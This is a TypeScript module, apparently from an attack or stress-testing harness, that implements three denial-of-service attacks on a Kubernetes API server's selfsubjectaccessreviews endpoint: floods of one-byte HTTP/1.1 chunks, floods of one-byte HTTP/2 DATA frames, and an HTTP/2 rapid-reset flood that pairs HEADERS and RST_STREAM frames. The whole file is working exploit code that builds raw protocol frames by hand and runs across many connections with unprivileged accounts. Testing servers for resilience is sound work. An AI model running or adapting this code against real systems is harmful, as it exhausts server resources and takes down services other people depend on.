/** Bytes that cost the client nothing to make, in very many parts: each part costs the server. */
import { once } from "node:events";
import { connect } from "node:tls";
import type { TLSSocket } from "node:tls";
import { inLoops } from "../attack.ts";
import type { Account, Attack, AttackTarget } from "../attack.ts";

const connections = 60;
const streams = 100;
const partsAtOnce = 20_000;
const resetsAtOnce = 900;

export const attacks: readonly Attack[] = [
  {
    // Chunks of one byte.
    name: "tiny-chunks",
    run: (target, signal) =>
      inLoops(connections, signal, (loop) => sendChunks(target, accountOf(target, loop), signal)),
  },
  {
    // DATA frames of one byte.
    name: "tiny-frames",
    run: (target, signal) =>
      inLoops(connections, signal, (loop) => sendFrames(target, accountOf(target, loop), signal)),
  },
  {
    // Streams that are reset at once do not count for the limit of streams.
    name: "reset-streams",
    run: (target, signal) =>
      inLoops(connections, signal, (loop) => resetStreams(target, accountOf(target, loop), signal)),
  },
];

function accountOf({ strangers }: AttackTarget, at: number): Account {
  const account = strangers[at % strangers.length];
  if (account === undefined) throw new Error("the attacker has no account");
  return account;
}

/** Every user may send reviews of their own rights, so the body is read. */
const path = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";

async function sendChunks(
  target: AttackTarget,
  { token }: Account,
  signal: AbortSignal,
): Promise<void> {
  await repeat(target, "http/1.1", signal, (socket) => {
    const head = [
      `POST ${path} HTTP/1.1`,
      `host: ${target.host}`,
      `authorization: Bearer ${token}`,
      "content-type: application/json",
      "transfer-encoding: chunked",
    ];
    socket.write(`${head.join("\r\n")}\r\n\r\n`);
    return Buffer.from("1\r\n \r\n".repeat(partsAtOnce));
  });
}

async function sendFrames(
  target: AttackTarget,
  { token }: Account,
  signal: AbortSignal,
): Promise<void> {
  await repeat(target, "h2", signal, (socket) => {
    const ids = Array.from({ length: streams }, (_, at) => 2 * at + 1);
    const heads = ids.map((id) => frame({ type: 1, flags: 4, id, body: headers(target, token) }));
    socket.write(Buffer.concat([preface, ...heads]));
    const data = ids.map((id) => frame({ type: 0, flags: 0, id, body: Buffer.from(" ") }));
    return Buffer.concat(
      Array.from({ length: partsAtOnce }, (_, at) => data[at % streams] ?? empty),
    );
  });
}

async function resetStreams(
  target: AttackTarget,
  { token }: Account,
  signal: AbortSignal,
): Promise<void> {
  await repeat(target, "h2", signal, (socket) => {
    const body = headers(target, token);
    const parts: Buffer[] = [preface];
    for (let at = 0; at < resetsAtOnce; at++) {
      const id = 2 * at + 1;
      parts.push(frame({ type: 1, flags: 5, id, body }));
      parts.push(frame({ type: 3, flags: 0, id, body: Buffer.from([0, 0, 0, 8]) }));
    }
    socket.end(Buffer.concat(parts));
    return empty;
  });
}

const empty = Buffer.alloc(0);

/** Sends the bytes again and again until the server ends the connection. */
async function repeat(
  { host, port, ca }: AttackTarget,
  protocol: string,
  signal: AbortSignal,
  begin: (socket: TLSSocket) => Buffer,
): Promise<void> {
  const socket = connect({ host, port, ca, ALPNProtocols: [protocol] });
  const closed = once(socket, "close");
  socket.on("error", () => undefined); // The server may refuse the client.
  const end = (): void => void socket.destroy();
  signal.addEventListener("abort", end, { once: true });
  socket.resume();
  await once(socket, "secureConnect");
  const bytes = begin(socket);
  const send = (): void => {
    while (bytes.length > 0 && socket.writable && socket.write(bytes));
  };
  socket.on("drain", send);
  send();
  await closed;
  signal.removeEventListener("abort", end);
}

interface Frame {
  readonly type: number;
  readonly flags: number;
  readonly id: number;
  readonly body: Buffer;
}

function frame({ type, flags, id, body }: Frame): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(body.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, body]);
}

const preface = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  frame({ type: 4, flags: 0, id: 0, body: empty }),
]);

/** As literals that no table keeps. */
function headers({ host }: AttackTarget, token: string): Buffer {
  const fields = {
    ":method": "POST",
    ":scheme": "https",
    ":path": path,
    ":authority": host,
    authorization: `Bearer ${token}`,
    "content-type": "application/json",
  };
  const parts = Object.entries(fields).flatMap(([name, value]) => [
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
  return Buffer.concat(parts);
}
